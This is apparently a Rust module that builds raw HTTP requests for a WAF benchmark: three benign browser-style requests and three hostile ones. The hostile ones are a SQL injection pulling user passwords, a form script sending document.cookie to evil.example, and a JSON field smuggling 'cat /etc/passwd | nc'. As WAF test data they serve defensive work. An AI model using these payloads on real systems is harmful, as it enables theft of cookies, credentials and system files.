//! The requests: those that the cost of a WAF is quoted for (`bench-requests/README.md` of the conformance data), and three
//! that attack. The engine's own benchmark has them from here, too.

use std::fmt::Write as _;
use std::ops::Range;
use std::path::Path;

/// What a desktop browser sends.
const BROWSER: [(&str, &str); 11] = [
    (
        "User-Agent",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    ),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    ("Accept-Language", "en-US,en;q=0.9"),
    ("Accept-Encoding", "gzip, deflate, br"),
    ("Referer", "https://www.example.com/products"),
    ("Cookie", "sid=8f3b2c1d9e7a4f60b5c2; theme=dark; lang=en"),
    ("Sec-Fetch-Dest", "document"),
    ("Sec-Fetch-Mode", "navigate"),
    ("Sec-Fetch-Site", "same-origin"),
    ("Upgrade-Insecure-Requests", "1"),
    ("Host", "www.example.com"),
];

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";

/// A `GET` of this target with a browser's headers, and these cookies added to its own.
pub(crate) fn get(target: &str, cookies: &str) -> Vec<u8> {
    let mut head = head("GET", target);
    if !cookies.is_empty() {
        head = head.replace("lang=en", &format!("lang=en; {cookies}"));
    }
    (head + "\r\n").into_bytes()
}

/// As the `get` of [`benign`], of an address that has not come before: the number is another one each time.
pub(crate) fn elsewhere() -> (Vec<u8>, Range<usize>) {
    const NUMBER: &str = "10000000";
    let bytes = get(&format!("/products/{NUMBER}?category=shoes&page=2&sort=price_asc"), "");
    let start = "GET /products/".len();
    (bytes, start..start + NUMBER.len())
}

fn post(target: &str, content_type: &str, body: &[u8]) -> Vec<u8> {
    let mut head = head("POST", target);
    let _ = write!(head, "Content-Type: {content_type}\r\nContent-Length: {}\r\n\r\n", body.len());
    [head.as_bytes(), body].concat()
}

fn head(method: &str, target: &str) -> String {
    let mut head = format!("{method} {target} HTTP/1.1\r\n");
    for (name, value) in BROWSER {
        let _ = write!(head, "{name}: {value}\r\n");
    }
    head
}

/// The three benign ones: name and bytes. The bodies are those in `bodies`; without it, others of that kind and size.
pub(crate) fn benign(bodies: Option<&Path>) -> [(&'static str, Vec<u8>); 3] {
    [
        ("get", get("/products/list?category=shoes&page=2&sort=price_asc", "")),
        ("form", post("/account/profile", FORM, &body(bodies, "form.body", form))),
        ("json", post("/api/v1/orders", JSON, &body(bodies, "json.body", json))),
    ]
}

/// Three that are denied: SQL injection in the query, cross-site scripting in a form, a command in JSON.
pub(crate) fn hostile() -> [(&'static str, Vec<u8>); 3] {
    let mut scripted = form();
    scripted.extend_from_slice(
        b"&signature=%3Cscript%3Efetch%28%27%2F%2Fevil.example%2F%27%2Bdocument.cookie%29%3C%2Fscript%3E",
    );
    let commanded = br#"{"order_id": "A-1", "note": "a; cat /etc/passwd | nc 192.0.2.1 4444", "items": [{"sku": "SKU-1", "quantity": 1}]}"#;
    [
        (
            "sql injection",
            get(
                "/products/list?category=shoes&id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20-",
                "",
            ),
        ),
        ("script in a form", post("/account/profile", FORM, &scripted)),
        ("command in json", post("/api/v1/orders", JSON, commanded)),
    ]
}

fn body(folder: Option<&Path>, file: &str, otherwise: fn() -> Vec<u8>) -> Vec<u8> {
    folder.and_then(|folder| std::fs::read(folder.join(file)).ok()).unwrap_or_else(otherwise)
}

/// As `form.body`: fields of an account, 1 KB.
fn form() -> Vec<u8> {
    let mut form = b"first_name=Maria&last_name=Johansson&email=maria.johansson%40example.com&city=Uppsala&language=en&comment=".to_vec();
    let words = b"I+enjoy+hiking+in+the+mountains+with+my+family+";
    form.extend(words.iter().cycle().take(1024 - form.len()));
    form
}

/// As `json.body`: an order of 45 items, 10 KB.
fn json() -> Vec<u8> {
    let item = |n: u32| {
        format!(
            r#"{{"sku": "SKU-{}", "title": "Wooden chair model {n}", "quantity": 2, "price": {n}.75, "color": "walnut", "gift": true, "dimensions": {{"w": 41, "h": 81, "d": 45}}, "note": "Please deliver to the side entrance after lunch"}}"#,
            1000 + n
        )
    };
    let items: Vec<_> = (1..=46).map(item).collect();
    format!(r#"{{"order_id": "A-20261122-0007", "currency": "SEK", "items": [{}]}}"#, items.join(", "))
        .into_bytes()
}
